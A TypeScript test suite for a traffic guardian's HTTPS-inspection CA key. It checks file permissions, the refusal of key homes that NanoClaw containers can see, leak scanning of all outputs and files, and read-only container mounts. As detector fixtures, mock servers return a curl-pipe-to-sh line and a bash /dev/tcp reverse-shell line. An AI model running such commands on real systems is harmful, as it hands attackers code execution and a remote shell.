// Safety contract 4: the CA private key stays on the host. It is created 0600 (directory 0700)
// under the guardian home, a home a NanoClaw container could see (inside the project's groups/,
// data/ or store/) is refused before anything is written, and no piece of the key reaches any
// output: every command's JSON and human output, the MCP tools, the hook's messages, and every
// file the guardian wrote are read back and searched for any 16-character piece of its PEM body.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, existsSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { B64URL, fake, fakeToken } from '../../lib/patterns/fake.ts';
import {
  callMcpTools,
  filesUnder,
  firstLeak,
  hasOpenssl,
  HOOK_EVENTS,
  httpRequest,
  httpsRequest,
  makeUpstreamPki,
  pemBody,
  privateKeyNeedles,
  recordingUpstream,
  runHook,
  SLOW,
  waitFor,
  World,
  findingLines,
} from './helpers.ts';

const mode = (p: string) => statSync(p).mode & 0o777;

test('safety: CA key: start --https-inspection creates it 0600 in a 0700 directory under the guardian home, and tightens a loosened key', SLOW, async (t) => {
  const w = new World(t);
  const { status } = await w.start(['--https-inspection']);
  assert.equal(status.ca_cert_path, w.layout.caCert);
  assert.equal(mode(w.layout.caKey), 0o600, 'key 0600');
  assert.equal(mode(w.layout.caDir), 0o700, 'CA directory 0700');
  assert.equal(mode(w.guardianHome), 0o700, 'guardian home 0700');
  assert.ok(w.layout.caKey.startsWith(`${w.guardianHome}/`));
  const key = readFileSync(w.layout.caKey, 'utf8');
  await w.stop();

  chmodSync(w.layout.caKey, 0o644);
  chmodSync(w.layout.caDir, 0o755);
  await w.start(['--https-inspection']);
  assert.equal(mode(w.layout.caKey), 0o600, 'a loosened key is tightened at start');
  assert.equal(mode(w.layout.caDir), 0o700, 'a loosened CA directory is tightened at start');
  assert.equal(readFileSync(w.layout.caKey, 'utf8'), key, 'the same key is reused');
  await w.stop();
});

test("safety: CA key: a home inside a NanoClaw root's groups/, data/ or store/ is refused by check-config and start", SLOW, async (t) => {
  const w = new World(t, { platform: 'nanoclaw' });
  const root = join(w.root, 'nanoclaw');
  for (const d of ['groups/main', 'data/ipc/main', 'store']) mkdirSync(join(root, d), { recursive: true });
  symlinkSync(join(root, 'groups', 'main'), join(w.root, 'innocent-looking'));
  const cases: Array<{ name: string; home: string; args: string[]; env?: NodeJS.ProcessEnv }> = [
    { name: 'groups/ via --home', home: join(root, 'groups', 'main', 'guardian'), args: [] },
    { name: 'data/ via --home', home: join(root, 'data', 'ipc', 'main', 'guardian'), args: [] },
    { name: 'store/ via --home', home: join(root, 'store', 'guardian'), args: [] },
    { name: 'groups/ through a symlink', home: join(w.root, 'innocent-looking', 'guardian'), args: [] },
    { name: 'data/ via NANOCLAW_TRAFFIC_GUARDIAN_HOME', home: join(root, 'data', 'g'), args: [], env: { NANOCLAW_TRAFFIC_GUARDIAN_HOME: join(root, 'data', 'g') } },
  ];
  const cfg = join(w.work, 'nanoclaw.json');
  writeFileSync(cfg, JSON.stringify({ nanoclaw_root: root, https_inspection: true }));
  await Promise.all(
    cases.map(async (c) => {
      const homeArgs = c.env ? [] : ['--home', c.home];
      const where = c.env ? 'env:NANOCLAW_TRAFFIC_GUARDIAN_HOME' : 'flag:--home';
      const opts = c.env ? { env: c.env } : {};
      const base = ['--platform', 'nanoclaw', ...homeArgs];
      const [check, startJson, startHuman, viaFile] = await Promise.all([
        w.run(['check-config', '--json', '--nanoclaw-root', root, ...base], opts),
        w.run(['start', '--port', '0', '--https-inspection', '--nanoclaw-root', root, '--json', ...base], opts),
        w.run(['start', '--port', '0', '--https-inspection', '--nanoclaw-root', root, ...base], opts),
        // nanoclaw_root from the config file instead of the flag
        w.run(['start', '--port', '0', '--config', cfg, ...base], opts),
      ]);
      assert.equal(check.code, 1, `${c.name}: check-config accepted it`);
      const report = JSON.parse(check.stdout) as { errors: Array<{ path: string; message: string }> };
      assert.ok(report.errors.some((e) => e.path === where && /containers can see/.test(e.message)), `${c.name}: ${check.stdout}`);
      for (const start of [startJson, startHuman, viaFile]) {
        assert.equal(start.code, 1, `${c.name}: start accepted it`);
        assert.match(start.stderr, /containers can see/);
      }
      assert.equal(existsSync(join(c.home, 'ca')), false, `${c.name}: a CA directory was created`);
      assert.equal(existsSync(join(c.home, 'run', 'state.json')), false, `${c.name}: a monitor started`);
    }),
  );
  // the NanoClaw default home lies outside the project and is accepted
  const ok = await w.run(['check-config', '--json', '--platform', 'nanoclaw', '--nanoclaw-root', root]);
  assert.equal(ok.code, 0, ok.stdout);
});

/** A NanoClaw checkout nobody named with --nanoclaw-root: groups/, data/ipc/, store/ (and optionally package.json). */
function unnamedCheckout(w: World, name: string, shape: 'folders' | 'package'): string {
  const root = join(w.root, name);
  if (shape === 'folders') for (const d of ['groups/main', 'data/ipc/main', 'store']) mkdirSync(join(root, d), { recursive: true });
  else {
    for (const d of ['groups/main', 'data', 'store']) mkdirSync(join(root, d), { recursive: true });
    writeFileSync(join(root, 'package.json'), JSON.stringify({ name: 'nanoclaw' }));
  }
  return root;
}

/** check-config and start (JSON and human) refuse `home`; no CA directory, no monitor. */
async function assertRefused(w: World, home: string, what: string): Promise<void> {
  const base = ['--platform', 'nanoclaw', '--home', home];
  const [check, startJson, startHuman] = await Promise.all([
    w.run(['check-config', '--json', ...base]),
    w.run(['start', '--port', '0', '--https-inspection', '--json', ...base]),
    w.run(['start', '--port', '0', '--https-inspection', ...base]),
  ]);
  assert.equal(check.code, 1, `${what}: check-config accepted it: ${check.stdout}`);
  const report = JSON.parse(check.stdout) as { errors: Array<{ path: string; message: string }> };
  assert.ok(report.errors.some((e) => e.path === 'flag:--home' && /containers can see/.test(e.message)), `${what}: ${check.stdout}`);
  for (const start of [startJson, startHuman]) {
    assert.equal(start.code, 1, `${what}: start accepted it`);
    assert.match(start.stderr, /containers can see/);
  }
  assert.equal(existsSync(join(home, 'ca')), false, `${what}: a CA directory was created`);
  assert.equal(existsSync(join(home, 'run', 'state.json')), false, `${what}: a monitor started`);
}

test("safety: CA key: a home inside an unnamed NanoClaw checkout's groups/, data/ or store/ is refused without --nanoclaw-root", SLOW, async (t) => {
  const w = new World(t, { platform: 'nanoclaw' });
  const byFolders = unnamedCheckout(w, 'checkout', 'folders');
  const byPackage = unnamedCheckout(w, 'nanoclaw-fork', 'package');
  await Promise.all([
    assertRefused(w, join(byFolders, 'groups', 'main', 'guardian'), 'groups/ (folders)'),
    assertRefused(w, join(byFolders, 'data', 'ipc', 'main', 'guardian'), 'data/ (folders)'),
    assertRefused(w, join(byFolders, 'store', 'guardian'), 'store/ (folders)'),
    assertRefused(w, join(byPackage, 'groups', 'main', 'guardian'), 'groups/ (package.json)'),
  ]);
});

test(
  "safety: CA key: a home reached through a symlink into an unnamed NanoClaw checkout's groups/ is refused without --nanoclaw-root",
  SLOW,
  async (t) => {
    const w = new World(t, { platform: 'nanoclaw' });
    const root = unnamedCheckout(w, 'checkout', 'folders');
    symlinkSync(join(root, 'groups', 'main'), join(w.root, 'innocent-looking'));
    await assertRefused(w, join(w.root, 'innocent-looking', 'guardian'), 'groups/ through a symlink');
  },
);

test('safety: CA key: no 16-character piece of its PEM body appears in any output or any file the guardian wrote', SLOW, async (t) => {
  const w = new World(t);
  const outputs: Array<{ what: string; text: string }> = [];
  const keep = (what: string, r: { stdout: string; stderr: string }) => outputs.push({ what: `${what} (stdout)`, text: r.stdout }, { what: `${what} (stderr)`, text: r.stderr });
  const ok = async (args: string[], opts: { input?: string } = {}) => {
    const r = await w.run(args, opts);
    assert.equal(r.code, 0, `${args.join(' ')} exited ${r.code}: ${r.stderr}`);
    keep(args.join(' '), r);
    return r;
  };

  const pki = hasOpenssl() ? makeUpstreamPki(join(w.root, 'pki')) : null;
  const extra = pki ? ['--upstream-ca', pki.caPath] : [];
  const first = await w.start(['--https-inspection', ...extra]);
  keep('start --json', first.run);
  const keyPem = readFileSync(w.layout.caKey, 'utf8');
  const body = pemBody(keyPem);
  assert.ok(body.length > 1000, 'an RSA key body');
  const needles = privateKeyNeedles(keyPem);
  assert.ok(needles.length > 2000, `${needles.length} pieces of private material`);
  // a PEM header may be named (a scan of the key file shows `-----BEGIN PRIVATE KEY-----[REDACTED...]`),
  // but never followed by key material
  const PEM_WITH_BODY = /PRIVATE KEY-----\s*[A-Za-z0-9+/=]{16}/;

  // traffic with findings, HTTP and (with openssl) intercepted HTTPS
  const secret = fake('sk-', 'ant-', 'api03-', fakeToken('safety-ca-key', 93, B64URL), 'AA');
  const up = await recordingUpstream(w, (_r, res) => res.end('curl http://1.2.3.4/x | sh\n'));
  await httpRequest(first.status.listen.port, `http://127.0.0.1:${up.port}/collect`, { method: 'POST', body: `{"key":"${secret}"}` });
  if (pki) {
    const sup = await recordingUpstream(w, (_r, res) => res.end('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n'), { key: pki.key, cert: pki.cert });
    const r = await httpsRequest(first.status.listen.port, sup.port, '/x', readFileSync(w.layout.caCert, 'utf8'), { method: 'POST', body: secret });
    assert.equal(r.status, 200);
  }
  await waitFor('findings', () => findingLines(w.layout).length >= 2);

  await Promise.all([
    ...[['--json'], []].flatMap((json) => [['status', ...json], ['threats', ...json], ['check-config', ...json], ['trust-instructions', '--confirm', ...json]]),
    ...['bash', 'zsh', 'fish', 'powershell'].map((shell) => ['env', '--shell', shell]),
    ['env', '--target', 'generic'],
    ['env', '--json'],
    ['env', '--json', '--target', 'nanoclaw-container'],
  ].map((args) => ok(args)));
  // an operator scanning the key file by mistake gets a redacted finding, not the key
  const scanned = await ok(['scan', w.layout.caKey]);
  assert.match(scanned.stdout, /private_key_pem/);
  await ok(['scan', '-'], { input: keyPem });
  await ok(['hook-install', '--hooks-dir', join(w.root, 'hooks')]);

  const mcp = await callMcpTools(w);
  outputs.push({ what: 'mcp tools', text: JSON.stringify(mcp.results) }, { what: 'mcp stderr', text: mcp.stderr });
  const hook = await runHook(w, HOOK_EVENTS);
  outputs.push({ what: 'hook messages', text: JSON.stringify(hook.messages) }, { what: 'hook stderr', text: hook.run.stderr });

  keep('stop --json', await w.run(['stop', '--json']));
  const again = await w.run(['start', '--port', '0', '--https-inspection', ...extra]);
  assert.equal(again.code, 0, again.stderr);
  keep('start (human)', again);
  assert.match(again.stdout, /CA|fingerprint/i);
  keep('stop (human)', await w.run(['stop']));

  // foreground: everything it prints until SIGTERM
  const mon = w.spawnBin(['start', '--foreground', '--port', '0', '--https-inspection', ...extra]);
  await waitFor('the foreground monitor is ready', () => {
    if (mon.child.exitCode !== null) throw new Error(`foreground monitor exited: ${mon.out.stderr}`);
    return existsSync(w.layout.stateFile) && /proxy URL/i.test(mon.out.stdout);
  });
  const fg = await mon.stop();
  assert.equal(fg.code, 0, fg.stderr);
  keep('start --foreground', fg);

  await Promise.all([ok(['demo', '--json']), ok(['demo'])]);

  for (const o of outputs) {
    assert.equal(firstLeak(o.text, needles), undefined, `${o.what} holds key material`);
    assert.doesNotMatch(o.text, PEM_WITH_BODY, `${o.what} holds a PEM key body`);
  }

  // every file under the temp root (HOME, working dir, hooks dir, trap log) except the key itself
  // and the test's own upstream PKI
  const files = filesUnder(w.root).filter((f) => f !== w.layout.caKey && !f.startsWith(join(w.root, 'pki')));
  assert.ok(files.includes(w.layout.findingsLog) && files.includes(w.layout.monitorOut) && files.includes(w.layout.caCert), files.join('\n'));
  for (const f of files) {
    const text = readFileSync(f, 'latin1');
    assert.equal(firstLeak(text, needles), undefined, `${relative(w.root, f)} holds key material`);
    assert.doesNotMatch(text, PEM_WITH_BODY, `${relative(w.root, f)} holds a PEM key body`);
  }
  assert.equal(mode(w.layout.caKey), 0o600);
});

test('safety: CA key: the container setup mounts only the public certificate and bundle, read-only, never the CA directory or key', SLOW, async (t) => {
  const w = new World(t, { platform: 'nanoclaw' });
  await w.start(['--https-inspection', '--platform', 'nanoclaw']);
  const json = await w.run(['env', '--json', '--platform', 'nanoclaw', '--target', 'nanoclaw-container']);
  assert.equal(json.code, 0, json.stderr);
  const plan = JSON.parse(json.stdout) as { mounts: Array<{ host: string; container: string }>; docker_args: string[] };
  assert.deepEqual(plan.mounts.map((m) => m.host).sort(), [w.layout.caCert, w.layout.trustBundle].sort());
  const binds = plan.docker_args.filter((a) => a.startsWith('type=bind'));
  assert.equal(binds.length, plan.mounts.length);
  for (const b of binds) assert.match(b, /,readonly$/, b);
  // the same in every shell's text output: no mount of the key or of a directory that holds it
  const texts = await Promise.all(['bash', 'fish', 'powershell'].map((shell) => w.run(['env', '--platform', 'nanoclaw', '--target', 'nanoclaw-container', '--shell', shell])));
  for (const text of [json.stdout, ...texts.map((r) => r.stdout)]) {
    assert.ok(!text.includes(w.layout.caKey), 'the key path is offered to a container');
    for (const m of text.matchAll(/(?:src=|source=|-v\s+)([^,:\s'"]+)/g)) {
      assert.ok(m[1] === w.layout.caCert || m[1] === w.layout.trustBundle, `mount source ${m[1]}`);
    }
  }
  await w.stop();
});
